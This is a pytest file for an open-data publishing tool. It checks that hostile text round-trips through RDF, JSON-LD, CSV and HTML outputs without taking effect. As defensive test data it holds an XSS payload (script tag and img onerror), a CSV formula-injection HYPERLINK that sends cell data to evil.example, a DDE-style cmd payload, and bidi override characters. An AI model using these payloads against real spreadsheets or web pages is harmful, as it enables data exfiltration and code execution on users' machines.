"""Hostile text survives every writer intact and inert.

Quotes, triple quotes, backslashes, line breaks, tabs, markup, spreadsheet formulas, bidi and
zero-width characters and emoji go into records, a letter text and publication.yaml; after
`opendata publish` each value is read back from every output format present in dist/ with a real
parser (rdflib, pyoxigraph, pyld, csv, html.parser) and must equal the value put in. HTML must show
it as text, never as markup; a CSV cell must never start like a formula.
"""

from __future__ import annotations

import csv
import gzip
import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pyld.jsonld
import pyoxigraph
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rdflib import Graph, Literal, URIRef
from rdflib.namespace import XSD

from opendata.build.graph import IRI, Node, jsonld, ntriples
from opendata.build.graph import Literal as NodeLiteral
from opendata.model.model import GENERATED_DIR, load_model
from opendata.publish.switch import verify
from opendata.sources.statement_text import clean_statement

from .conftest import run_cli

BASE = Path(__file__).resolve().parent / "cases" / "_base"

QUOTES = 'Zij zei: "ja", \'nee\' en """drie""" – C:\\pad\\naar\\ \\n \\" einde\\'
LINES = "regel één\nregel twee\r\nregel drie\tmet tab\n\n  ingesprongen  "
SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)"> &amp; &lt; ]]> -->'
FORMULA_EQ = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
FORMULA_PLUS = "+31 70 441 66 11"
FORMULA_MINUS = "-2+3+cmd|' /C calc'!A0"
FORMULA_AT = "@SUM(1+1)"
FORMULA_TAB = "\t=1+1 na een tab"
ALREADY_MARKED = "'=al beschermd"
BIDI = "abc\u202edcba\u202c en zero\u200bwidth\u200d joiner\u2066isolate\u2069"
EMOJI = "brief 🏛️📜✉️ 👩🏽‍⚖️ 𝕌𝕟𝕚𝕔𝕠𝕕𝕖"
QUOTE_IN_TEXT = (
    'Wij zeggen: "ja" – \'nee\' – """drie""" C:\\map\\ <script>alert(1)</script>\n'
    "=1+1\t@x 🏛️ \u202eomgekeerd\u202c zero\u200bwidth"
)
PERSON_NAME = 'J. "de IJzeren" O\'Neil-Baljeu ' + BIDI

# field -> value, for every record value that must come back from the graph and the tables
RECORD_VALUES = {
    "letter title": FORMULA_EQ,
    "letter note": LINES + " " + SCRIPT,
    "letter correction 1": QUOTES,
    "letter correction 2": FORMULA_AT,
    "letter correction 3": ALREADY_MARKED,
    "position statement": clean_statement(QUOTE_IN_TEXT),  # derived from the quote (issue 12, item 6)
    "position quote": QUOTE_IN_TEXT,
    "theme note": FORMULA_MINUS,
    "person name": PERSON_NAME,
    "person note": EMOJI,
    "organisation name": FORMULA_PLUS,
    "organisation note": SCRIPT,
    "theme name": FORMULA_TAB,
    "meeting name": EMOJI + " " + QUOTES,
}
CONFIG_VALUES = {
    "title nl": SCRIPT,
    "title en": QUOTES,
    "description nl": LINES + " " + BIDI,
    "description en": FORMULA_EQ,
    "keyword nl": FORMULA_AT,
    "keyword en": EMOJI,
}
LETTER_TEXT = "Geacht college,\r\n\r\n" + QUOTE_IN_TEXT + "\n\nMet vriendelijke groet,\n" + PERSON_NAME + "\n"


def _load(path: Path):
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _dump(data, path: Path) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8")


def _by_id(records: list, key: str) -> dict:
    return next(r for r in records if r["id"] == key)


def write_hostile_dataset(target: Path) -> Path:
    shutil.copytree(BASE, target)
    letter = _load(target / "letters/brief-gs.yaml")
    letter["title"] = RECORD_VALUES["letter title"]
    letter["note"] = RECORD_VALUES["letter note"]
    letter["corrections"] = [RECORD_VALUES[f"letter correction {n}"] for n in (1, 2, 3)]
    start = LETTER_TEXT.index(QUOTE_IN_TEXT)
    letter["positions"][0].pop("statement", None)  # derived from the quote
    letter["positions"][0].update(quote=QUOTE_IN_TEXT, start=start, end=start + len(QUOTE_IN_TEXT))
    _dump(letter, target / "letters/brief-gs.yaml")
    (target / "letters/brief-gs.txt").write_bytes(LETTER_TEXT.encode("utf-8"))
    people = _load(target / "people.yaml")
    _by_id(people, "j-baljeu").update(name=PERSON_NAME, note=EMOJI)
    _dump(people, target / "people.yaml")
    organisations = _load(target / "organisations.yaml")
    _by_id(organisations, "leidse-regio").update(name=FORMULA_PLUS, note=SCRIPT)
    _dump(organisations, target / "organisations.yaml")
    themes = _load(target / "themes.yaml")
    _by_id(themes, "samenwerking")["name"] = FORMULA_TAB
    _by_id(themes, "samenwerking")["note"] = RECORD_VALUES["theme note"]
    _dump(themes, target / "themes.yaml")
    meetings = _load(target / "meetings.yaml")
    meetings[0]["name"] = RECORD_VALUES["meeting name"]
    _dump(meetings, target / "meetings.yaml")
    config = _load(target / "publication.yaml")
    config["title"] = {"nl": CONFIG_VALUES["title nl"], "en": CONFIG_VALUES["title en"]}
    config["description"] = {"nl": CONFIG_VALUES["description nl"], "en": CONFIG_VALUES["description en"]}
    config["keywords"] = {
        "nl": ["test", CONFIG_VALUES["keyword nl"]],
        "en": ["test", CONFIG_VALUES["keyword en"]],
    }
    _dump(config, target / "publication.yaml")
    return target


@pytest.fixture(scope="module")
def dist(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    datasets = write_hostile_dataset(root / "datasets")
    out = root / "dist"
    result = run_cli("publish", "--datasets", str(datasets), "--out", str(out), "--no-cache")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert verify(out) == []
    return out


def _strings(graph: Graph) -> set[str]:
    return {str(o) for o in graph.objects() if isinstance(o, Literal)}


def _local_loader(dist: Path):
    context = json.loads((dist / "context.jsonld").read_text(encoding="utf-8"))

    def load(url, options=None):
        assert url.endswith("/context.jsonld"), url  # no network: only our own context is ever fetched
        return {
            "contentType": "application/ld+json",
            "contextUrl": None,
            "documentUrl": url,
            "document": context,
        }

    return load


def _jsonld_graph(path: Path, dist: Path) -> Graph:
    document = json.loads(path.read_text(encoding="utf-8"))
    nquads = pyld.jsonld.to_rdf(
        document, {"format": "application/n-quads", "documentLoader": _local_loader(dist)}
    )
    return Graph().parse(data=nquads, format="nt")


def test_the_sources_read_back_as_written(tmp_path):
    """The hostile dataset itself is what we think it is (YAML escapes round-trip through our reader)."""
    from opendata.model.model import load_model
    from opendata.sources.records import read_dataset

    dataset = read_dataset(load_model(), write_hostile_dataset(tmp_path / "datasets"))
    letter = next(r for r in dataset.of("Letter") if r.key == "brief-gs")
    assert letter.data["title"] == FORMULA_EQ and letter.text == LETTER_TEXT
    assert [p.code for p in dataset.problems] == []


@pytest.mark.parametrize(
    "name, parse",
    [
        ("graph.nt", lambda dist: Graph().parse(dist / "graph.nt", format="nt")),
        (
            "graph.nt.gz",
            lambda dist: Graph().parse(
                data=gzip.decompress((dist / "graph.nt.gz").read_bytes()).decode(), format="nt"
            ),
        ),
        ("graph.ttl", lambda dist: Graph().parse(dist / "graph.ttl", format="turtle")),
        ("graph.jsonld", lambda dist: _jsonld_graph(dist / "graph.jsonld", dist)),
    ],
)
def test_every_graph_format_gives_back_every_value(dist, name, parse):
    strings = _strings(parse(dist))
    missing = {field: value for field, value in RECORD_VALUES.items() if value not in strings}
    assert not missing, f"{name}: {missing}"


def test_turtle_is_read_the_same_by_a_second_parser(dist):
    quads = pyoxigraph.parse(path=str(dist / "graph.ttl"), format=pyoxigraph.RdfFormat.TURTLE)
    strings = {q.object.value for q in quads if isinstance(q.object, pyoxigraph.Literal)}
    assert set(RECORD_VALUES.values()) <= strings


def test_quote_offsets_still_point_at_the_quote(dist):
    graph = Graph().parse(dist / "graph.nt", format="nt")
    oa = "http://www.w3.org/ns/oa#"
    start = next(graph.objects(None, URIRef(oa + "start"))).toPython()
    end = next(graph.objects(None, URIRef(oa + "end"))).toPython()
    text = (dist / "tekst" / "brief-gs.txt").read_bytes().decode("utf-8")
    assert text == LETTER_TEXT
    assert text[start:end] == QUOTE_IN_TEXT


def _csv_cells(dist: Path) -> dict[str, list[dict]]:
    tables = {}
    for path in sorted((dist / "data").glob("*.csv")):
        with open(path, encoding="utf-8", newline="") as handle:
            tables[path.stem] = list(csv.DictReader(handle))
    return tables


def test_csv_cells_give_back_every_value_and_never_start_like_a_formula(dist):
    assert (dist / "data").is_dir(), "publish writes the tables to data/"
    from opendata.outputs.csv_cells import FORMULA_STARTS, unprotect

    tables = _csv_cells(dist)
    raw = [cell for rows in tables.values() for row in rows for cell in row.values()]
    assert raw and not [cell for cell in raw if cell[:1] in FORMULA_STARTS], "a cell a spreadsheet would run"
    values = {unprotect(cell) for cell in raw}
    missing = {field: value for field, value in RECORD_VALUES.items() if value not in values}
    assert not missing, missing
    letter = next(row for row in tables["letters"] if row["id"] == "brief-gs")
    assert letter["title"] == "'" + FORMULA_EQ and unprotect(letter["title"]) == FORMULA_EQ
    assert unprotect(letter["note"]) == RECORD_VALUES["letter note"]
    person = next(row for row in tables["people"] if row["id"] == "j-baljeu")
    assert person["name"] == PERSON_NAME


def test_datapackage_and_csvw_metadata_are_json_that_gives_back_the_configuration(dist):
    """Each JSON file parses, and the hostile title comes back from the two that describe the tables."""
    documents = {
        name: json.loads((dist / name).read_text(encoding="utf-8"))
        for name in ("datapackage.json", "csv-metadata.json", "manifest.json")
    }
    assert documents["manifest.json"], "an empty manifest"
    for name in ("datapackage.json", "csv-metadata.json"):
        strings = _json_strings(documents[name])
        assert CONFIG_VALUES["title nl"] in strings or CONFIG_VALUES["title en"] in strings, name


def _json_strings(value) -> set[str]:
    """Every string anywhere in a JSON value."""
    if isinstance(value, str):
        return {value}
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return {s for item in items for s in _json_strings(item)}


@pytest.mark.parametrize(
    "name, fmt",
    [
        ("catalog.ttl", "turtle"),
        ("catalog.rdf", "xml"),
        ("catalog.jsonld", "json-ld"),
        ("void.ttl", "turtle"),
    ],
)
def test_catalog_files_give_back_the_configuration(dist, name, fmt):
    assert (dist / name).is_file(), f"publish writes {name}"
    if fmt == "json-ld":
        strings = (
            _strings(_jsonld_graph(dist / name, dist)) if "@context" in (dist / name).read_text() else set()
        )
        strings |= _strings(Graph().parse(dist / name, format="json-ld"))
    else:
        strings = _strings(Graph().parse(dist / name, format=fmt))
    expected = {"title nl", "title en"} | (
        {"description nl", "description en", "keyword nl", "keyword en"}
        if name.startswith("catalog")
        else set()
    )
    missing = {key: CONFIG_VALUES[key] for key in expected if CONFIG_VALUES[key] not in strings}
    assert not missing, f"{name}: {missing}"


class _Page(HTMLParser):
    """The text, the tags and the scripts of an HTML page, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.scripts: list[tuple[dict, str]] = []
        self._in_script: dict | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._in_script = dict(attrs)
            self.scripts.append((self._in_script, ""))

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = None

    def handle_data(self, data):
        if self._in_script is not None:
            attrs, body = self.scripts[-1]
            self.scripts[-1] = (attrs, body + data)
        else:
            self.text.append(data)


def test_html_shows_the_values_as_text_and_runs_nothing(dist):
    assert (dist / "index.html").is_file(), "publish writes the landing page"
    page = _Page()
    page.feed((dist / "index.html").read_text(encoding="utf-8"))
    page.close()
    assert "img" not in {tag for tag, _ in page.tags}, "hostile markup became a tag"
    assert not [attrs for _, attrs in page.tags if any(name.startswith("on") for name in attrs)]
    for attrs, body in page.scripts:  # only data islands, and each is whole, valid JSON
        assert attrs.get("type") == "application/ld+json", attrs
        json.loads(body)
    text = "".join(page.text)
    for key in ("title nl", "title en"):
        assert CONFIG_VALUES[key] in text or any(
            CONFIG_VALUES[key] in json.dumps(json.loads(b), ensure_ascii=False) for _, b in page.scripts
        ), key
    islands = [json.loads(body) for _, body in page.scripts]
    found = json.dumps(islands, ensure_ascii=False)
    assert json.dumps(SCRIPT, ensure_ascii=False)[1:-1] in found or SCRIPT in text


def test_a_bidi_override_in_a_value_ends_with_the_value_on_every_page(dist):
    """A value with bidi controls (BIDI: an override, an isolate) is shown in <bdi> on the pages (or in
    the letter's own text, a block of its own), so an override it leaves open cannot reverse the next
    link or a date beside it."""
    import lxml.html

    controls = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    pages = sorted((dist / "doc").rglob("*.html"))
    seen = 0
    for path in pages:
        tree = lxml.html.fromstring(path.read_bytes())
        for element in tree.iter():
            if not isinstance(element.tag, str) or element.tag in ("script", "title", "head", "meta", "pre"):
                continue
            for text, holder, own in (
                (element.text, element, True),
                (element.tail, element.getparent(), False),
            ):
                if not text or not controls & set(text) or holder is None:
                    continue
                block = {"pre", "title", "h1", "p", "td", "th", "li", "figcaption", "blockquote"}
                ancestors = [holder.tag, *(a.tag for a in holder.iterancestors())]
                seen += 1
                alone = (
                    own and holder.tag in block and len(holder) == 0
                )  # a block of its own: its own paragraph
                assert "bdi" in ancestors or "pre" in ancestors or alone, (path.name, holder.tag, text)
    assert seen > 0


def test_the_source_text_is_published_byte_for_byte(dist):
    assert (dist / "tekst" / "brief-gs.txt").read_bytes() == LETTER_TEXT.encode("utf-8")


# ------------------------------------------------------------------ property: the graph writers, any text

MODEL = load_model()
CONTEXT = json.loads((GENERATED_DIR / "context.jsonld").read_text(encoding="utf-8"))
SUBJECT = "https://data.example.org/id/brief/x"
DCT_TITLE = "http://purl.org/dc/terms/title"
SKOS_NOTE = "http://www.w3.org/2004/02/skos/core#note"
ANY_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=60)


def _node(title: str, note: str) -> Node:
    node = Node(SUBJECT, [MODEL.expand(MODEL.classes["Letter"].uri)], MODEL.classes["Letter"])
    node.add("title", DCT_TITLE, NodeLiteral(title))
    node.add("note", SKOS_NOTE, NodeLiteral(note))
    node.add("cites", MODEL.expand("dct:references"), IRI("https://data.example.org/id/brief/y"))
    return node


def _values_from(graph: Graph) -> tuple[str, str]:
    subject = URIRef(SUBJECT)
    title, note = graph.value(subject, URIRef(DCT_TITLE)), graph.value(subject, URIRef(SKOS_NOTE))
    assert title.datatype in (None, XSD.string) and note.datatype in (None, XSD.string)
    return str(title), str(note)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=ANY_TEXT, note=ANY_TEXT)
def test_ntriples_and_turtle_writers_round_trip_any_text(title, note):
    data = "".join(sorted(ntriples(_node(title, note))))
    assert _values_from(Graph().parse(data=data, format="nt")) == (title, note)
    turtle = pyoxigraph.serialize(
        pyoxigraph.parse(data.encode("utf-8"), format=pyoxigraph.RdfFormat.N_TRIPLES),
        format=pyoxigraph.RdfFormat.TURTLE,
    )
    assert _values_from(Graph().parse(data=turtle.decode("utf-8"), format="turtle")) == (title, note)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=ANY_TEXT, note=ANY_TEXT)
def test_jsonld_writer_round_trips_any_text(title, note):
    document = {"@context": CONTEXT["@context"], "@graph": [jsonld(MODEL, _node(title, note))]}
    text = json.dumps(document, ensure_ascii=False)  # as the writer writes it
    dataset = pyld.jsonld.to_rdf(json.loads(text), {})
    found = {
        (t["predicate"]["value"], t["object"]["value"])
        for t in dataset["@default"]
        if t["subject"]["value"] == SUBJECT
    }
    assert (DCT_TITLE, title) in found and (SKOS_NOTE, note) in found
